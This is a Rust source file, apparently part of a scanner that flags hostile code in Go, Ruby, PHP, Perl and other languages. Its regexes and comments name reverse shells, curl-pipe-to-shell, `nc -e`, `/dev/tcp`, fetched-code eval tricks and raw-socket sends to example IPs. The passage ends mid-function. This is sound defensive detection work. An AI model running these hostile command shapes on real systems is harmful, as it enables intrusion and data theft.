//! Token-level checks for code in languages no extractor parses (Go, Rust,
//! Ruby, PHP, Perl, Lua, Java, C, …): string literals that are secret
//! paths or shell commands, URLs next to a send API, and the reverse-shell
//! shape (a socket to a fixed address plus a shell). Coarser than the AST
//! extractors, so it only reports what the literals themselves say.

use super::indicators::{URL_RE, classify_path, classify_url};
use super::socket_cmds::SOCKET_API;
use super::token_calls::FETCH_API;
use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};
use std::sync::LazyLock;

/// Extensions of code that no extractor parses.
const UNPARSED: &[&str] = &[
    "go",
    "rs",
    "rb",
    "php",
    "pl",
    "pm",
    "lua",
    "el",
    "java",
    "kt",
    "kts",
    "swift",
    "c",
    "h",
    "cc",
    "cpp",
    "hpp",
    "cs",
    "scala",
    "r",
    "ex",
    "exs",
    "dart",
    "zig",
    "nim",
    "groovy",
    "cr",
    "jl",
    "vbs",
    "applescript",
    "scpt",
    "tcl",
    "exp",
    "awk",
];

static SEND_API: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)(http\.Post|http\.NewRequest\(\s*.(POST|PUT)|PostForm|\.post\(|Net::HTTP\.post|Net::HTTP::Post|HTTParty\.post|RestClient\.post|Faraday\.(?:post|put)|->post\(|curl_exec\(|http\.request\(\s*[^,)\n]+,|\.Do\(\s*req|reqwest::|\.send\(\)|curl_setopt|CURLOPT_POSTFIELDS|file_get_contents\(|LWP::UserAgent|HttpClient|HttpURLConnection|URLSession|socket\.send|\bsend\(|dataTask|ureq::(?:post|put|request)\(|\.send_(?:json|string|form|bytes)\(|\b(?:attohttpc|surf|isahc)::(?:post|put)\(|\bcurl\.(?:post|put|request)\(|plenary\.curl|\bssl\.https\.request\b|\bsocket\.http\.request\b)",
);
static SHELL_API: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"("/bin/(ba|z)?sh(\s+-i)?"|'/bin/(ba|z)?sh(\s+-i)?'|cmd\.exe|IO\.popen|exec\.Command\(|Command::new\(|proc_open\(|shell_exec\(|Runtime\.getRuntime\(\)\.exec|\bsystem\(|\bspawn\()"#,
);
static RAW_IP: crate::rx::Lazy = crate::rx::Lazy::new(r"\b(\d{1,3}\.){3}\d{1,3}\b");
/// Shell-looking literal: worth reading as a command line.
static SHELLISH: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(\bcurl\s|\bwget\s|\|\s*(ba|z)?sh\b|\bbash\s+-c\b|\bsh\s+-c\b|\brm\s+-rf?\s|\bchmod\s+\+x\b|\bnc\s+-e\b|/dev/tcp/)",
);

/// A file written or set executable (`OpenFile(p, …, 0o755)`, `chmod`,
/// `set_permissions`); a folder made with 0755 is not.
static EXEC_MODE: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"((OpenFile|WriteFile|Chmod|chmod|open)\([^\n]*\b0o?7[57][57]\b|set_permissions\(|from_mode\(\s*0o7|FileUtils\.chmod|File\.chmod\(|setExecutable\(|["']chmod["']\)?[^\n]{0,40}["'](?:\+x|[0-7]?7[57][57])["'])"#,
);
/// A program started whose name is not a literal (a path computed at run
/// time: the downloaded file).
static RUN_COMPUTED: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(exec\.Command(Context)?\(\s*(ctx\s*,\s*)?[A-Za-z_]|Command::new\(\s*&?[A-Za-z_]|\bsystem\(\s*[A-Za-z_$]|\bspawn\(\s*[A-Za-z_$]|\bexec\(\s*[A-Za-z_$]|ProcessBuilder\(\s*[A-Za-z_]|Process\.Start\(\s*[A-Za-z_])",
);

/// A literal on a line a comment opens (`#`, `//`, `--`, `/*`, a `* `
/// block line); `*splat(…)` and `#{…}` are code.
fn comment_line(text: &str, at: usize) -> bool {
    let from = text[..at].rfind('\n').map_or(0, |i| i + 1);
    let head = text[from..at].trim_start();
    (["#", "//", "--", "/*", "* "]
        .iter()
        .any(|c| head.starts_with(c))
        || head == "*")
        && !head.starts_with("#{")
        && !head.starts_with("#!")
}

/// Whether a text reads as a shell command line ([`SHELLISH`]).
fn shellish(s: &str) -> bool {
    SHELLISH.is_match(s)
}

pub fn is_unparsed_code(rel: &str) -> bool {
    let name = rel.rsplit('/').next().unwrap_or(rel).to_ascii_lowercase();
    // Round 22: a template of such a file (`plugin.php.tpl`) is the code
    // a scaffold writes out.
    let name = crate::skill::classify::rendered_name(&name);
    name.rsplit_once('.')
        .is_some_and(|(_, e)| UNPARSED.contains(&e))
        || super::autorun::token_ext(rel).is_some()
}

/// Whether a file is code no extractor parses: by its name, or by the
/// interpreter its `#!` line names (round 23: `bin/rails-log-report`
/// starting `#!/usr/bin/env ruby`, `tool.cgi` starting `#!/usr/bin/perl`;
/// `skill/shebang.rs`, the table discovery reads parsed languages with).
pub fn is_unparsed_file(rel: &str, text: &str) -> bool {
    is_unparsed_code(rel) || crate::skill::classify::token_ext_of_file(rel, text).is_some()
}

/// Whether a lower-case extension is one of code no extractor parses.
pub fn unparsed_ext(ext: &str) -> bool {
    UNPARSED.contains(&ext)
}

/// Files a build or install tool runs by itself, as npm runs a lifecycle
/// hook: Cargo's `build.rs` (every `cargo build`), RubyGems' `extconf.rb`
/// (every `gem install` of a gem with native extensions).
const BUILD_TIME: &[&str] = &["build.rs", "extconf.rb"];

/// Whether a build or install tool runs this token-level file by itself.
pub fn build_time(rel: &str) -> bool {
    BUILD_TIME.contains(&rel.rsplit('/').next().unwrap_or(rel))
}

/// How a token-level file runs (round 19): a build-time file is
/// [`Origin::Hook`] (it runs without anyone choosing to run it), any other
/// a script.
pub fn origin(rel: &str) -> Origin {
    if build_time(rel) || super::autorun::token_ext(rel).is_some() {
        Origin::Hook
    } else {
        Origin::Script
    }
}

/// Where a file's unit tests begin: Rust's `#[cfg(test)]` module (by
/// convention the end of the file). Literals after it are test inputs
/// (`assert!(detect("rm -rf /"))`), examples rather than actions.
fn test_region(text: &str) -> usize {
    text.find("#[cfg(test)]").unwrap_or(usize::MAX)
}

/// The 1-based line of byte `at`.
fn line_of(text: &str, at: usize) -> usize {
    text.as_bytes()[..at.min(text.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    let sends = SEND_API.is_match(text);
    let tests_from = test_region(text);
    let mut test_items = Vec::new();
    // Command lines and argv lists of run calls, built paths, SQL and mail
    // sends ([`super::token_calls`]); literals read there as commands are
    // not read again below.
    let mut consumed = std::collections::BTreeSet::new();
    let before = sink.items.len();
    let lits = literals(text);
    // Round 36: an agent's approval prompts answered by a script (`expect`).
    super::prompt_answer::scan(src, sink);
    super::token_calls::scan(src, sink, &lits, &mut consumed);
    let rescan = super::token_values::Rescan { scan, shellish };
    super::token_values::scan(src, sink, &lits, &mut consumed, &rescan);
    super::sql_calls::gate_wipes(text, sink, before);
    for i in before..sink.items.len() {
        if tests_from != usize::MAX
            && sink.items[i].location.start_line >= line_of(text, tests_from)
        {
            test_items.push(i);
        }
    }
    // Round 21: a command line in a literal has its interpolations
    // (`#{CONFIG_HOST}`) resolved as a run call's would be: a Ruby `#{`
    // opening a shell word would otherwise start a comment.
    let vars = super::token_calls::literal_vars(text);
    for (start, end) in lits {
        if consumed.contains(&start) {
            continue;
        }
        if comment_line(text, start) {
            // `# system("curl … | sh") was the old way`: prose about code.
            continue;
        }
        let lit = &text[start..end];
        let before = sink.items.len();
        scan_literal(src, sink, sends, (lit, &vars), start, end);
        if start >= tests_from {
            test_items.extend(before..sink.items.len());
        }
    }
    for i in test_items {
        if let Some(ev) = sink.items.get_mut(i) {
            ev.tags.insert(Tag::TestFixture);
        }
    }
    scan_whole_file(src, sink, text);
    super::token_code::scan(src, sink, before);
    // Round 31: a hook's request headers copied to a literal URL.
    super::header_relay::scan(src, sink, before);
    super::request_parts::scan(src, sink, before);
    super::cred_repoint::scan(src, sink);
    // Round 32: keystrokes, the screen or the clipboard captured and sent.
    super::input_capture::scan(src, sink, before);
    super::token_written::scan(src, sink);
    if src.ext() == "el" {
        super::lisp_load::scan(src, sink);
    }
    super::token_flow::scan(src, sink, before);
    // Round 43: remote refs deleted through refspecs built in code.
    super::remote_refs::scan(src, sink);
    // Round 30: a delete behind a date, environment or run-count check.
    super::gate_mark::mark(src, sink, before);
}

/// One string literal: a shell command line, a URL handed to a send API,
/// or a credential path.
fn scan_literal(
    src: &Src,
    sink: &mut Sink,
    sends: bool,
    (lit, vars): (&str, &super::token_calls::Vars),
    start: usize,
    end: usize,
) {
    if SHELLISH.is_match(lit) {
        // A script body in one literal (`"#!/bin/sh\ncurl …"`): each
        // `\n` escape ends a line (a space keeps the byte offsets), so a
        // `#!` line does not comment out the rest.
        let lines = lit.replace("\\n", " \n");
        super::token_calls::shell_line(src, sink, &lines, start, vars);
        return;
    }
    if let Some(m) = URL_RE.find(lit) {
        let url = m.as_str();
        if sends {
            let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url)
                .tags(classify_url(url))
                .instrument("send API")
                .object("data sent over HTTP");
            sink.push(src.at(ev, start, end, "code"));
        }
        return;
    }
    let (scope, tags) = classify_path(lit);
    if scope == R::Credentials
        && lit.contains('/')
        && !lit.contains(' ')
        && !path_pattern(lit)
        && !(lit.starts_with('/') && list_item(src.text, start, end))
    {
        let ev = Evidence::new(Op::FileRead, A::Read, scope, lit)
            .tags(tags)
            .instrument("string literal")
            .object("credential path in code");
        sink.push(src.at(ev, start, end, "code"));
    }
}

/// `"/.ssh/"`, `"/id_rsa"`: one segment under the root, where no
/// credential lives; a pattern that paths are matched against (a
/// detector's watch-list), not a file that is read.
fn path_pattern(lit: &str) -> bool {
    lit.starts_with('/') && !lit.trim_matches('/').contains('/')
}

/// A literal that is a line of its own in a list (`    "/.aws/credentials",`):
/// an entry of a watch-list, not an argument of a read.
fn list_item(text: &str, start: usize, end: usize) -> bool {
    let from = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let to = text[end..].find('\n').map_or(text.len(), |i| end + i);
    let rest = text[from..start].trim() == "\"" || text[from..start].trim() == "'";
    let tail = text[end..to].trim();
    rest && matches!(tail, "\"," | "\"" | "'," | "'" | "\"]," | "\"]" | "\"];")
}

/// Checks over the whole file: the reverse-shell shape, download and run,
/// SDK calls, remote jobs and memory payloads.
fn scan_whole_file(src: &Src, sink: &mut Sink, text: &str) {
    if let (Some(sock), true, true) = (
        SOCKET_API.find(text),
        SHELL_API.is_match(text),
        RAW_IP.is_match(text),
    ) {
        let ev = Evidence::new(Op::ReverseShell, A::CallTool, R::Network, "socket")
            .tag(Tag::RawIp)
            .instrument("socket")
            .object("socket to a fixed address wired to a shell");
        sink.push(src.at(ev, sock.start(), sock.end(), "code"));
    } else {
        super::socket_cmds::scan(src, sink);
    }
    download_run(src, sink);
    fetched_eval(src, sink);
    super::sdk::scan(src, sink);
    super::catalog::scan(src, sink, true);
    super::remote_jobs::scan(src, sink);
    super::remote_control::scan(src, sink);
    super::remote_input::scan(src, sink);
    super::exposure::scan(src, sink);
    super::memory_payload::scan(src, sink);
    super::repo_api::scan(src, sink);
    super::social_actions::scan(src, sink);
    super::platform_grant::scan(src, sink);
    super::miner::scan(src, sink);
    super::packet_flood::scan(src, sink);
    super::miner::pool_config(src, sink);
    super::browser_profile::scan(src, sink);
    super::mail_forward::scan(src, sink);
    super::mail_relay::scan(src, sink);
    super::objects::scan(src, sink);
    super::cred_select::scan(src, sink);
    super::reroute::scan(src, sink);
    super::admin_backdoor::scan(src, sink);
    super::planted_account::scan(src, sink);
    super::outside_grant::scan(src, sink);
    super::auth_relay::scan(src, sink);
    super::system_op::scan_sudoers(src, sink);
    super::root_rules::scan(src, sink);
    super::win_tamper::scan_pieces(src, sink);
    super::ransom::scan(src, sink);
    super::walk_wipe::scan(src, sink);
    super::doomed::scan(src, sink);
    super::joined_delete::scan(src, sink);
    super::safeguards::scan(src, sink);
    super::glob_doom::scan(src, sink);
    super::burn::process_hog(src, sink);
    super::perpetual::scan(src, sink);
    super::exhaust::scan(src, sink);
    super::sql_calls::scan_joined(src, sink);
    super::sql_audit::scan(src, sink);
    super::remote_jobs::runaway_loops(src, sink);
    super::requeue::scan(src, sink);
    super::amplify::scan(src, sink);
    super::git_remote::scan(src, sink, false);
    super::vendor_loop::scan(src, sink);
    super::sweep::every_bucket(src, sink);
    super::sweep::dated_wipe(src, sink);
    super::remote_jobs::toll_fraud(src, sink);
    super::remote_jobs::paid_amplification(src, sink);
    super::billed::server_fleet(src, sink);
    super::billed::server_recipients(src, sink);
    super::fleet::scan(src, sink);
    super::stranger::scan(src, sink);
    super::relay_fanout::scan(src, sink);
    socket_sends(src, sink);
    super::data_manifest::scan(src, sink);
    super::data_policy::scan(src, sink);
    super::admin_attach::scan(src, sink);
    super::trust_policy::scan(src, sink);
    super::webshell::scan(src, sink);
    super::webshell::timestomp(src, sink);
    super::editor_hooks::scan(src, sink);
    super::trace_wipe::scan(src, sink);
    super::ci_burn::scan(src, sink);
    // Round 35: a payment account swapped for a fixed one.
    super::payee_swap::scan(src, sink);
    super::encoded_target::scan(src, sink);
    // Round 36: the macOS consent database written directly.
    super::consent_db::scan(src, sink);
    super::fake_prompt::scan(src, sink);
    // Round 39: the private keys an SSH configuration names, read.
    super::identity_keys::scan(src, sink);
    // Round 36: PHP code fetched, decoded and evaluated.
    super::php_loader::scan(src, sink);
}

/// A write through a socket (`write_all`, `.Write(`, `send(`, `puts`,
/// `syswrite`, `fwrite`, `print $sock`), a datagram (`sendto`,
/// `socket_sendto`) or a remote logger's message (`notify`, `syslog(`).
static SOCKET_WRITE: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(\.write_all\(|\.write\(|\bwrite(?:ln)?!\(|\.send_to\(|\.WriteTo(?:UDP)?\(|\.Write\(|\bsend\(|:send\(|\.puts\b|\bsyswrite\b|\bfwrite\(|\bfputs\(|\bprint\s*\{?\s*\$\w|->print\b|[.:]sendto\(|\bsocket_sendto\(|\bsocket_write\(|[.>]notify\b|\bsyslog\(|\.(?:Info|Err|Warning|Notice)\(|\bfmt\.Fprint(?:ln|f)?\(\s*[a-z_]\w*\s*,|\bio\.(?:WriteString|Copy)\(\s*[a-z_]\w*\s*,|->(?:put|append|put_unique)\s*\(|\.(?:putbinaryfile|puttextfile|storbinary|storlines|Stor)\s*\(|\bftp_f?put\()",
);
/// The host of a socket call: its first literal, `"h:port"` or `"h"`.
static SOCKET_HOST: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"^[^;\n]{0,60}?["']((?:tcp|udp|ssl|tls)://)?([A-Za-z0-9][A-Za-z0-9.-]{0,252})(?::\d{1,5})?["']"#,
);

/// Round 27: the sink table of raw senders for the token-level languages:
/// an API, and which of its arguments (after a leading network name,
/// `"tcp"`/`"udp"`) is the address. Connecting APIs take it first
/// ([`SOCKET_API`]: `TcpStream::connect`, `net.Dial`, `TCPSocket.new`,
/// `fsockopen`, `IO::Socket::INET->new(PeerAddr => …)`); datagram senders
/// later (`UdpSocket::send_to(buf, addr)`, Go `WriteTo(buf, addr)`, Lua
/// `udp:sendto(msg, host, port)`, PHP `socket_sendto($s, $m, $n, 0, $host,
/// $port)`, Ruby `UDPSocket#send(msg, 0, host, port)`); stream clients and
/// remote loggers (syslog, GELF) first.
const SENDERS: &[(&str, usize)] = &[
    (r"\.(?:send_to|WriteTo|WriteToUDP)\(|[.:]sendto\(", 1),
    (r"\bsocket_sendto\(", 4),
    (r"\bsocket_connect\(", 1),
    (r"\.send\(\s*[^,()\n]+,\s*0\s*,", 2),
    (
        r"IO::Socket::IP\b|\bstream_socket_client\(|[.:]setpeername\(|\bsyslog\.Dial\(|RemoteSyslogLogger\.new\(|GELF::Notifier\.new\(|\bgelf\.New(?:UDP|TCP)Writer\(|Net::Syslog->new\(|UDPSocket\.new\.connect\(",
        0,
    ),
    // Round 44: FTP clients (Perl `Net::FTP->new`, Ruby `Net::FTP.open`,
    // PHP `ftp_connect`, Go `ftp.Dial`): the upload verbs are in
    // [`SOCKET_WRITE`]; the send is to `ftp://HOST`.
    (
        r"Net::FTP(?:->new|\.open|\.new)\(|\bftp_(?:ssl_)?connect\(|\bftp\.Dial(?:Timeout)?\(",
        0,
    ),
];
static SENDER_SET: LazyLock<Vec<(regex::Regex, usize)>> = LazyLock::new(|| {
    SENDERS
        .iter()
        .map(|(r, n)| (crate::rx::re(r), *n))
        .collect()
});

/// Round 19: data written to a raw socket opened to a literal host
/// (`TcpStream::connect(("203.0.113.77", 8443))` then `write_all`,
/// `net.Dial("tcp", "h:p")` then `Write`, `TCPSocket.new("h", p)` then
/// `puts`, `fsockopen("h", p)` then `fwrite`): a send to that host, as an
/// HTTP client's would be. Loopback hosts are the machine itself. Round 27:
/// every row of [`SENDERS`], a keyed address (`PeerAddr => …`), and an
/// address built from pieces (`join('.', 198, 51, 100, 23)`).
fn socket_sends(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !SOCKET_WRITE.is_match(text) {
        return;
    }
    let mut vars = None;
    let mut sites: Vec<(regex::Match, usize)> =
        SOCKET_API.find_iter(text).map(|m| (m, 0)).collect();
    for (re, nth) in SENDER_SET.iter() {
        sites.extend(re.find_iter(text).map(|m| (m, *nth)));
    }
    sites.sort_by_key(|(m, _)| m.start());
    sites.dedup_by_key(|(m, _)| m.start());
    for (m, nth) in sites {
        if super::token_calls::in_comment_line(text, m.start()) {
            continue;
        }
        let rest = &text[m.end()..];
        // `net.Dial("tcp", "h:p")`: the network name is not the host.
        let rest = rest
            .trim_start_matches(['(', ' '])
            .trim_start_matches(['"', '\''])
            .strip_prefix("tcp")
            .or_else(|| {
                rest.trim_start_matches(['(', ' '])
                    .trim_start_matches(['"', '\''])
                    .strip_prefix("udp")
            })
            .and_then(|r| r.strip_prefix(['"', '\'']))
            .unwrap_or(rest);
        // Round 25: an address the file builds from pieces
        // (`let addr = ["203.0.113", "91:7443"].join(".")` then
        // `TcpStream::connect_timeout(&addr, …)`), folded as run calls'
        // arguments are.
        let folded;
        let literal = SOCKET_HOST
            .captures(rest)
            .and_then(|c| c.get(2))
            .filter(|_| nth == 0);
        let host = match literal {
            Some(h) if h.as_str().contains('.') => h.as_str(),
            _ => {
                let vars = vars.get_or_insert_with(|| super::token_calls::file_vars(text));
                // A row whose pattern reads into the arguments (Ruby's
                // `.send(msg, 0,`): they start after its `(`.
                let (from, open) = match m.as_str().find('(') {
                    Some(i) => (m.start() + i + 1, true),
                    None => (m.end(), false),
                };
                match folded_host(&text[from..], open, nth, vars) {
                    Some(h) => {
                        folded = h;
                        folded.as_str()
                    }
                    None => continue,
                }
            }
        };
        if host == "localhost"
            || host.starts_with("127.")
            || host == "0.0.0.0"
            || !host.contains('.')
        {
            continue;
        }
        let ftp = m.as_str().to_ascii_lowercase().contains("ftp");
        let url = format!("{}://{host}", if ftp { "ftp" } else { "tcp" });
        let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
            .tags(classify_url(&url))
            .instrument(if ftp { "FTP client" } else { "socket" })
            .object(if ftp {
                "files uploaded over FTP"
            } else {
                "data written to a raw socket"
            });
        sink.push(src.at(ev, m.start(), m.end(), "code"));
    }
}

/// A keyed address argument (`PeerAddr => X`, `SyslogHost => X`, `host:
/// X`, `'host' => X`): what follows is the address expression.
static KEYED_HOST: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)(?:^|[\s,({])["']?(?:peeraddr|peerhost|sysloghost|remote_?host|host)["']?\s*(?:=>|:)\s*"#,
);

/// The end of the argument list that starts at `rest[0]` (after its
/// `(`): the byte of the bracket that closes it, outside quotes, within
/// `TOKEN_MAX_CALL_ARGS` bytes (past it the list is cut and the file is
/// marked incomplete, as `call_args` does).
fn args_end(rest: &str) -> usize {
    let b = rest.as_bytes();
    let stop = b.len().min(crate::limits::TOKEN_MAX_CALL_ARGS);
    let (mut depth, mut quote) = (0i32, 0u8);
    for (i, &c) in b[..stop].iter().enumerate() {
        match c {
            _ if quote != 0 => {
                if c == quote {
                    quote = 0;
                }
            }
            b'"' | b'\'' => quote = c,
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth == 0 => return i,
            b')' | b']' | b'}' => depth -= 1,
            _ => {}
        }
    }
    if stop < b.len() {
        crate::limits::gave_up("TOKEN_MAX_CALL_ARGS");
    }
    stop
}

/// The host of a socket call whose address argument is code: the API's
/// name ends (`_timeout`), its first argument (`&addr`, `addr.as_str()`,
/// `$i`) folds through the file's variables to `host:port` (or
/// `tcp://host:port`); a piece that stays unknown (`$V`) gives no host.
/// Round 27: a constructor between the name and the arguments
/// (`IO::Socket::INET->new(`, `.new(`), and a keyed argument anywhere in
/// the list, which names the address whatever its place.
fn folded_host(
    after: &str,
    open: bool,
    nth: usize,
    vars: &super::token_calls::Vars,
) -> Option<String> {
    use super::token_calls::Arg;
    let rest = if open {
        after
    } else {
        let r = after.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
        let r = r.trim_start();
        let r = ["->new", "::new", ".new", ".open"]
            .iter()
            .find_map(|p| r.strip_prefix(p))
            .unwrap_or(r);
        r.trim_start().strip_prefix('(')?
    };
    let args = super::token_calls::call_args(rest, 0, true);
    let span = |a: &Arg| match *a {
        Arg::Lit(s, e) => (s.saturating_sub(1), (e + 1).min(rest.len())),
        Arg::Expr(s, e) => (s, e),
    };
    // A keyed address anywhere in the list (keyed arguments are not
    // positional: `call_args` leaves them out).
    let keyed = KEYED_HOST.find(&rest[..args_end(rest)]).and_then(|k| {
        super::token_calls::call_args(rest, k.end(), true)
            .first()
            .map(span)
    });
    // `net.Dial("tcp", addr)`: the network name is not the address.
    let network = |a: &Arg| matches!(*a, Arg::Lit(s, e) if rest[s..e].starts_with("tcp") || rest[s..e].starts_with("udp"));
    let (s, e) = match keyed {
        Some(k) => k,
        None => match args.iter().filter(|a| !network(a)).nth(nth)? {
            a => span(a),
        },
    };
    let expr = rest[s..e]
        .trim()
        .trim_start_matches('&')
        .trim_end_matches(".as_str()")
        .trim_end_matches(".to_string()");
    let v = super::token_calls::fold_code(expr, vars)?;
    let v = v.split_once("://").map_or(v.as_str(), |(_, r)| r);
    let host = v.rsplit_once(':').map_or(v, |(h, _)| h);
    (!host.contains('$') && !host.is_empty() && host.len() <= 253).then(|| host.to_string())
}

/// Go, Rust, Ruby, … download-and-run: a URL fetched, a file written with
/// execute rights, and a program started under a computed name. The three
/// are not tied together by a flow at token level, so all three must be
/// there; a fetch of data plus fixed commands (`exec.Command("go", …)`) is
/// quiet.
fn download_run(src: &Src, sink: &mut Sink) {
    let text = src.text;
    let (Some(_), Some(_), Some(run)) = (
        FETCH_API.find(text),
        EXEC_MODE.find(text),
        RUN_COMPUTED.find(text),
    ) else {
        return;
    };
    let Some(url) = URL_RE.find(text) else {
        return;
    };
    let ev = super::download_run::DownloadRun::code(url.as_str(), Vec::new())
        .instrument("download, chmod and run")
        .object("downloaded program made executable and run")
        .lower();
    sink.push(src.at(ev, run.start(), run.end(), "code"));
}

/// Token-level languages: text fetched from the network handed to the
/// language's own code evaluator (`$s = file_get_contents('https://…');
/// eval($s);`, `eval(URI.open(u).read)`, `load(http.request(u))()`): a
/// download-and-run at the evaluator, named after the fetched URL when a
/// literal gives it. The fetch is the argument itself or the last value
/// assigned to the variable passed.
fn fetched_eval(src: &Src, sink: &mut Sink) {
    let text = src.text;
    let ext = src.ext();
    let Some((_, words)) = super::token_code::EVAL_ROWS
        .iter()
        .find(|(l, _)| l.contains(&ext.as_str()))
    else {
        return;
    };
    if !FETCH_API.is_match(text) && !RUN_FETCH.is_match(text) {
        return;
    }
    let b = text.as_bytes();
    let runs = run_fetch_spans(text);
    let mut checked = 0usize;
    // Round 29 (supply29): the evaluator reached indirectly, one table
    // (`INDIRECT_EVAL`: the argument that holds the code, and what makes
    // the call an evaluation), plus a variable function whose name the file
    // folds to an evaluator (`$e = strrev('lave'); $e($s)`, `$a = 'as' .
    // 'sert'`).
    let indirect = INDIRECT_EVAL
        .iter()
        .filter(|r| r.langs.contains(&ext.as_str()))
        .map(|r| (r.name, r.code_arg, Some(r)));
    let direct = words.iter().map(|w| (*w, 0usize, None));
    // (call start, just past its callee and parenthesis, the code
    // argument, parenthesised, label)
    let mut sites: Vec<(usize, usize, usize, bool, String)> = Vec::new();
    for (w, idx, row) in direct.chain(indirect) {
        for (at, _) in text.match_indices(w) {
            let end = at + w.len();
            if at > 0
                && (b[at - 1].is_ascii_alphanumeric() || matches!(b[at - 1], b'_' | b'$' | b'>'))
                || end < b.len() && (b[end].is_ascii_alphanumeric() || b[end] == b'_')
                || comment_line(text, at)
            {
                continue;
            }
            let after = text[end..].trim_start_matches([' ', '\t']);
            // Perl's `eval { … }` catches errors; it runs no string.
            if after.starts_with('{') {
                continue;
            }
            checked += 1;
            if checked > crate::limits::TOKEN_MAX_EVAL_CALLS {
                crate::limits::gave_up("TOKEN_MAX_EVAL_CALLS");
                return;
            }
            let paren = after.starts_with('(');
            let from = end + (text.len() - end - after.len()) + usize::from(paren);
            if row.is_some_and(|r| !(r.when)(text, from)) {
                continue;
            }
            sites.push((at, from, idx, paren, format!("{w} of fetched text")));
        }
    }
    if ext == "php" {
        variable_evaluators(src, &mut sites);
    }
    for (at, from, idx, paren, label) in sites {
        let args = super::token_calls::call_args(text, from, paren);
        let Some(super::token_calls::Arg::Expr(s, e)) = args.get(idx) else {
            continue;
        };
        let arg = text[*s..*e].trim_matches(['[', ']', ' ']);
        let name = arg.trim_start_matches(['$', '@']);
        // Round 42: `r.stdout` of `local r = vim.system({"curl", …}):wait()`
        // is read through `r`.
        let name = name.split(['.', ':', '[']).next().unwrap_or(name);
        let fetches = |x: &str| FETCH_API.is_match(x) || RUN_FETCH.is_match(x);
        let fetch = if fetches(arg) {
            Some(arg)
        } else if !name.is_empty() && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_') {
            // The fetch itself, or a call of a literal URL in a file
            // that fetches (Perl's `get('https://…')` of LWP::Simple).
            super::token_code::assigned_expr(text, name, at)
                .filter(|x| fetches(x) || x.contains('(') && x.contains("://"))
                .or_else(|| inside_run_fetch(&runs, at))
        } else {
            None
        };
        let Some(fetch) = fetch else {
            continue;
        };
        let url = URL_RE.find(fetch).map_or("fetched code", |m| m.as_str());
        let ev = super::download_run::DownloadRun::code(url, Vec::new())
            .instrument(label)
            .lower();
        sink.push(src.at(ev, at, *e, "code"));
    }
}

/// Round 42 (blind r42 lazyvim-starter-kit): a download made by running a
/// download program through the language's process API
/// (`vim.fn.system({ "curl", … })`, `jobstart({ "curl", … }, { on_stdout =
/// … })`, `io.popen("curl …")`, `` `curl …` ``, `shell_exec('wget …')`,
/// `IO.popen(["curl", …])`). Go's and Rust's `exec.Command("curl")` are
/// rows of `FETCH_API`.
static RUN_FETCH: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?:(?:\bjobstart|\bvim\.system|\bvim\.fn\.system(?:list)?|\bio\.popen|\bsystemlist|\bsystem|\bpopen|\bshell_exec|\bIO\.popen|\bOpen3\.capture[23]e?|\bqx|%x)\s*[(\[{]?\s*[\[{]?\s*["'`]?|`)(?:curl|wget|aria2c|xh)\b"#,
);
/// At most this many process-API downloads are followed into their
/// callbacks, each at most [`RUN_FETCH_SPAN`] bytes.
const MAX_RUN_FETCHES: usize = 32;
const RUN_FETCH_SPAN: usize = 8192;

/// The spans of the process-API downloads' calls, parentheses balanced
/// (strings skipped), so an evaluator inside one (the `on_stdout` callback
/// handed the program's output) runs what was downloaded. Linear: each
/// call is read once, at most [`RUN_FETCH_SPAN`] bytes.
fn run_fetch_spans(text: &str) -> Vec<(usize, usize, &str)> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut from = 0usize;
    for m in RUN_FETCH.find_iter(text) {
        if out.len() >= MAX_RUN_FETCHES {
            crate::limits::gave_up("TOKEN_MAX_EVAL_CALLS");
            break;
        }
        // A call nested in one already read is part of it.
        if m.start() < from {
            continue;
        }
        let Some(open) = text[m.start()..m.end()].find('(').map(|i| m.start() + i) else {
            out.push((m.start(), m.end(), m.as_str()));
            continue;
        };
        let stop = (open + RUN_FETCH_SPAN).min(b.len());
        let (mut depth, mut i, mut end) = (0usize, open, stop);
        while i < stop {
            match b[i] {
                b'(' | b'{' | b'[' => depth += 1,
                b')' | b'}' | b']' => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        end = i + 1;
                        break;
                    }
                }
                q @ (b'"' | b'\'') => {
                    i += 1;
                    while i < stop && b[i] != q && b[i] != b'\n' {
                        i += if b[i] == b'\\' { 2 } else { 1 };
                    }
                }
                _ => {}
            }
            i += 1;
        }
        from = end;
        out.push((m.start(), end, &text[m.start()..end]));
    }
    out
}

/// The process-API download whose call holds `at` (an evaluator in its
/// output callback).
fn inside_run_fetch<'t>(runs: &[(usize, usize, &'t str)], at: usize) -> Option<&'t str> {
    runs.iter()
        .find(|(s, e, _)| *s < at && at < *e)
        .map(|r| r.2)
}

/// An evaluator reached through another call: `create_function($args,
/// CODE)`, `preg_replace('/…/e', CODE, $s)`, `call_user_func('assert',
/// CODE)`, Ruby `send(:eval, CODE)`.
struct IndirectEval {
    langs: &'static [&'static str],
    name: &'static str,
    /// The argument that holds the code.
    code_arg: usize,
    /// Whether the call at `from` (just inside its parenthesis) evaluates.
    when: fn(&str, usize) -> bool,
}

/// The evaluators a name can stand for (PHP, Ruby: `eval`, `assert`,
/// `create_function`; the shell runners run a command line).
const EVALUATOR_NAMES: &[&str] = &[
    "eval",
    "assert",
    "create_function",
    "system",
    "shell_exec",
    "passthru",
    "exec",
    "popen",
    "proc_open",
    "instance_eval",
    "class_eval",
];

fn first_arg_names_evaluator(text: &str, from: usize) -> bool {
    let args = super::token_calls::call_args(text, from, true);
